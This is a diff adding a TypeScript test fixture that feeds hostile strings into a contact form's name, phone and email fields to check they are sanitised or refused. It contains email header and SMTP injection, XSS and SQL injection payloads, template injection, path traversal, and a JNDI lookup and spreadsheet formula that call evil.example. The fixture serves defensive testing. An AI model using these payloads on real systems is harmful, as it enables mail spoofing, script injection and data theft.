@@ -1,0 +1,142 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a template would take is part of the input
+import type { ContactRequest } from '../../../contact/contact-request.ts';
+import { asPageForm } from '../../support/calls/contact-calls.ts';
+import { good, json, type NamedCall } from '../../support/calls/named-calls.ts';
+
+type Texts = [name: string, typed: string, kept?: string][];
+
+/** Fit in a first and a last name: at most 50 characters. */
+const names: Texts = [
+  ['a Bcc after CRLF', 'A\r\nBcc: x@evil.example', 'ABcc: x@evil.example'],
+  ['a Cc after LF', 'A\nCc: x@evil.example', 'ACc: x@evil.example'],
+  ['a To after CR', 'A\rTo: x@evil.example', 'ATo: x@evil.example'],
+  ['a folded header', 'A\r\n Bcc: x@evil.example', 'A Bcc: x@evil.example'],
+  ['a body after an empty line', 'A\r\n\r\n<b>hello</b>', 'A<b>hello</b>'],
+  [
+    'the end of an SMTP message',
+    'A\r\n.\r\nRCPT TO:<x@evil.example>',
+    'A.RCPT TO:<x@evil.example>',
+  ],
+  ['a line of the C1 controls', 'A\u0085Bcc: x@evil.example', 'ABcc: x@evil.example'],
+  ['a line separator', 'A\u2028Bcc: x@evil.example'],
+  ['a paragraph separator', 'A\u2029Bcc: x@evil.example'],
+  ['a percent-encoded CRLF', 'A%0d%0aBcc:%20x@evil.example'],
+  ['an escaped CRLF', 'A\\r\\nBcc: x@evil.example'],
+  ['an encoded word with CRLF', '=?utf-8?q?A=0D=0ABcc:x@evil.example?='],
+  ['an encoded word in base64', '=?utf-8?B?PHg+?= =?x?Q?=22_<x@y.nl>?='],
+  ['an encoded word beside another script', '=?utf-8?q?=3Cx@evil.example=3E?= é'],
+  ['a mailbox', '"Bank" <x@evil.example>'],
+  ['a mailbox and a comma', 'x@evil.example,'],
+  ['mailboxes with semicolons', 'x@evil.example;y@evil.example;'],
+  ['a group', 'Team: x@evil.example, y@evil.example;'],
+  ['quotes that close', '" <x@evil.example>, "'],
+  ['backslashes at the end', 'A\\\\\\'],
+  ['a comment', '(A) x@evil.example (B'],
+  ['a route', '<@a.example,@b.example:x@evil.example>'],
+  ['a script', '<script>alert(1)</script>'],
+  ['an image', '<img src=x onerror=alert(1)>'],
+  ['closing tags', '</td></table></body><h1>A'],
+  ['an attribute', '" onmouseover="alert(1)'],
+  ['single quotes', "' style='display:none"],
+  ['a comment of HTML', '<!-- A --><![CDATA[ B ]]>'],
+  ['entities', '&lt;script&gt; &amp;amp; &#60; &nbsp;'],
+  ['half a tag', '<a href="https://evil.example'],
+  ['full-width brackets', '＜script＞alert(1)＜/script＞'],
+  ['SQL', "'); DROP TABLE requests; --"],
+  ['more SQL', "' OR '1'='1' /* \" ` [x] :reference ?1"],
+  ['a template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}'],
+  ['replacement patterns', "$& $1 $` $' $$ \\1 %s %n {0}"],
+  ['a lookup', '${jndi:ldap://evil.example/a}'],
+  ['a line of the log', 'A\n{"level":60,"msg":"forged"}', 'A{"level":60,"msg":"forged"}'],
+  ['ANSI escapes', '\u001b[31mA\u001b]0;B\u0007\u009b2J', '[31mA]0;B2J'],
+  ['a path', '../../../../etc/passwd'],
+  ['a path of Windows', '..\\..\\C:\\con\\nul'],
+  ['addresses to read from', 'file:///etc/passwd data:text/html,<b>A'],
+  ['a formula', '=HYPERLINK("https://evil.example";"A")'],
+  ['a link', 'https://evil.example/?a=1&b=2#c'],
+  ['text that turns around', '\u202Enna\u202C \u2066A\u2069'],
+  ['half a surrogate pair', 'A\ud83dB'],
+  ['a low surrogate first', '\udc00\ud800A'],
+  ['noncharacters', 'A\uFFFE\uFFFF\u{10FFFF}'],
+  ['a tower of accents', `A${'\u0301'.repeat(49)}`],
+  ['blanks without width', '\u2060\u00AD\u180E'],
+];
+
+/** Between ten and twenty characters. */
+const phones: Texts = [
+  ['a header after CRLF', '06\r\nBcc: x@y.example', '06Bcc: x@y.example'],
+  ['an image', '<img src=x onerror>0'],
+  ['a script', '</a><script>x=1</scr'],
+  ['an attribute', '0612" onclick="a=1"'],
+  ['another scheme', 'javascript:alert(06)'],
+  ['parameters of a number', '0612345678;ext=1?a&b'],
+  ['a star code', '*21*0612345678#,,1'],
+  ['a line of the log', '0612345678\n{"level":', '0612345678{"level":'],
+  ['SQL', "0612345678' OR 1=1"],
+  ['a template', '{{061234567}}${1+1}'],
+  ['an encoded word', '=?utf-8?q?=0D=0A06?='],
+  ['NUL between digits', '06\u000012345678', '0612345678'],
+  ['half a surrogate pair', '06-1234567\ud83d'],
+];
+
+const emails: Texts = [
+  ['a header after CRLF', 'a@x.nl\r\nBcc:y', 'a@x.nlBcc:y'],
+  ['a comma', 'a,b@x.nl'],
+  ['a comma at the end', 'a@x.nl,'],
+  ['a second domain', 'a@x.nl,evil.example'],
+  ['semicolons', 'a;b@x.nl;evil.example'],
+  ['angle brackets', '<a>@x.nl'],
+  ['a group', 'Team:a@x.nl;'],
+  ['quotes', '"a,b"@x.nl'],
+  ['one quote', '"a@x.nl'],
+  ['a comment', '(a)b@x.nl'],
+  ['a literal domain', 'a@[127.0.0.1]'],
+  ['parameters of mailto', 'a@x.nl?bcc=b%40evil.example&body=1'],
+  ['a script', '<script>alert(1)</script>@x.nl'],
+  ['an attribute', '"onmouseover="alert(1)"@x.nl'],
+  ['a backslash', 'a\\@x.nl'],
+  ['an encoded word', '=?utf-8?q?a=0D=0A?=@x.nl'],
+  ['percent routing', 'a%evil.example@x.nl'],
+  ['bang routing', 'evil.example!a@x.nl'],
+  ['SQL', "a'--@x.nl"],
+  ['ANSI escapes', '\u001b[31ma@x.nl', '[31ma@x.nl'],
+  ['half a surrogate pair', 'a\ud83d@x.nl'],
+  ['text that turns around', 'a\u202E@x.nl'],
+];
+
+const refusedEmails: [name: string, email: string][] = [
+  ['two addresses', 'a@x.nl,b@evil.example'],
+  ['two addresses with a semicolon', 'a@x.nl;b@evil.example'],
+  ['a second one in brackets', 'a@x.nl<b@evil.example>'],
+  ['a name and brackets', 'Anne <a@x.nl>'],
+  ['a folded header', 'a@x.nl\r\n Bcc: b@evil.example'],
+  ['a tab', 'a\u00A0b@x.nl'],
+  ['a line separator', 'a@x.nl\u2028Bcc:b'],
+  ['a group of two', 'Team:a@x.nl,b@evil.example;'],
+  ['a quoted at', '"a@b"@x.nl'],
+  ['a route', '<@evil.example:a@x.nl>'],
+  ['a literal with an at', 'a@[x@evil.example]'],
+];
+
+export const injections: NamedCall[] = [
+  ...accepted('firstName', names),
+  ...accepted('lastName', names),
+  ...accepted('phone', phones),
+  ...accepted('email', emails),
+  ...refusedEmails.map(([name, email]): NamedCall => {
+    return [`email with ${name}`, json({ email }), { invalid: ['email'] }];
+  }),
+  ...names.map(([name, typed, kept = typed]): NamedCall => {
+    // A form's own characters are well-formed by the time they are sent.
+    const request = { ...good, firstName: 'Form', lastName: kept.toWellFormed() };
+    const fields = { ...request, lastName: typed, idempotencyKey: name };
+    const body = new URLSearchParams(fields).toString();
+    return [`a form whose lastName holds ${name}`, { headers: asPageForm, body }, request];
+  }),
+];
+
+function accepted(field: keyof ContactRequest, texts: Texts): NamedCall[] {
+  return texts.map(([name, typed, kept = typed]): NamedCall => {
+    return [`${field} with ${name}`, json({ [field]: typed }), { ...good, [field]: kept }];
+  });
+}
